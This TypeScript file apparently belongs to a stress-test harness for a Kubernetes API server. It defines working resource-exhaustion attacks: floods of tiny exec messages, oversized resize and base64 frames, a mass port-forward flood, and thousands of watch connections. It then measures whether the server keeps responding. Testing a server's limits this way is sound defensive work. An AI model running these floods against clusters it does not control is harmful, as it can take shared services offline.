/** Attacks that come over streams: sessions, port-forward, watches. */
import { Agent, request } from "node:http";
import { WebSocket } from "ws";
import { core, send, type Attack, type Target } from "./attack-target.ts";

const silently = (): void => {};

async function opened(target: Target, below: string, protocol: string): Promise<WebSocket> {
  const socket = new WebSocket(`${target.api.replace(/^http/, "ws")}${core}${below}`, protocol);
  await new Promise((resolve, reject) => {
    socket.once("open", resolve);
    socket.once("error", reject);
  });
  socket.on("error", silently);
  return socket;
}

const reading = (script: string): string =>
  `/pods/box/exec?stdin=true&stdout=true&command=sh&command=-c&command=${encodeURIComponent(script)}`;

/** How long until the server has heard all that came before: it answers a ping where it stands. */
function heard(socket: WebSocket): Promise<string> {
  const closed = new Promise<string>((resolve) => {
    socket.once("close", (code, reason) => resolve(`closed with ${code} ${reason.toString()}`));
  });
  const answered = new Promise<string>((resolve) => socket.once("pong", () => resolve("heard")));
  socket.ping();
  return Promise.race([closed, answered]);
}

export const manyMessages: Attack = {
  name: "exec: 60,000 messages of two bytes",
  async run(target) {
    const socket = await opened(target, reading("cat > /dev/null"), "v5.channel.k8s.io");
    for (let i = 0; i < 60_000; i++) socket.send(Uint8Array.of(0, 97));
    return heard(socket);
  },
  afterMs: 8_000,
};

export const resizeFrame: Attack = {
  name: "exec: a resize message of 31 MB",
  async run(target) {
    const socket = await opened(
      target,
      `${reading("cat > /dev/null")}&tty=true`,
      "v5.channel.k8s.io",
    );
    const many = Array(10_300_000).fill("{}").join();
    socket.send(Buffer.from(`\x04{"Width":80,"Height":24,"x":[${many}]}`));
    return heard(socket);
  },
  afterMs: 6_000,
};

export const base64Frames: Attack = {
  name: "exec: a base64 message of 28 MB",
  async run(target) {
    const socket = await opened(target, reading("cat > /dev/null"), "base64.channel.k8s.io");
    socket.send(`0${"YWFh".repeat(7_000_000)}`);
    return heard(socket);
  },
  afterMs: 6_000,
};

/** 64 sessions of 60 ports, 400 requests sent at once on each. */
export const portForwardFlood: Attack = {
  name: "port-forward: 64 x 60 ports x 400 requests",
  async run(target) {
    const ports = Array(60).fill("ports=80").join("&");
    const requests = Buffer.from("GET / HTTP/1.1\r\nHost: a\r\n\r\n".repeat(400));
    const sockets: WebSocket[] = [];
    for (let i = 0; i < 64; i++) {
      sockets.push(
        await opened(target, `/pods/box/portforward?${ports}`, "v4.channel.k8s.io").catch(
          (error: unknown) => {
            throw new Error(`session ${i}: ${String(error)}`);
          },
        ),
      );
    }
    for (const socket of sockets) {
      for (let port = 0; port < 60; port++) {
        socket.send(Buffer.concat([Uint8Array.of(2 * port), requests]));
      }
    }
    return (await Promise.all(sockets.map(heard)))[0] ?? "";
  },
  afterMs: 8_000,
};

/** Each client on a connection of its own; then one write. */
export const watches = (count: number): Attack => ({
  name: `${count.toLocaleString("en-US")} watches of one object, one write`,
  async run(target) {
    const query = "watch=true&fieldSelector=metadata.name%3Done";
    const agent = new Agent({ maxSockets: Infinity });
    const seen = { refused: 0, told: 0 };
    const open = (): Promise<void> =>
      new Promise((resolve) => {
        const sent = request(`${target.api}${core}/configmaps?${query}`, { agent }, (answer) => {
          if (answer.statusCode !== 200) seen.refused++;
          answer.on("error", silently);
          answer.on("data", (chunk: Buffer) => {
            if (chunk.includes("MODIFIED")) seen.told++;
          });
          resolve();
        });
        sent.on("error", () => resolve());
        sent.end();
      });
    for (let i = 0; i < count; i += 50) {
      await Promise.all(Array.from({ length: Math.min(50, count - i) }, open));
    }
    const merge = "application/merge-patch+json";
    const began = performance.now();
    await send(target, "PATCH", `${core}/configmaps/one`, { data: { a: "c" } }, merge);
    const all = (): boolean => seen.told + seen.refused >= count;
    while (!all() && performance.now() - began < 8_000) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    const tookMs = Math.round(performance.now() - began);
    return `${seen.told} told after ${tookMs} ms, ${seen.refused} refused`;
  },
});
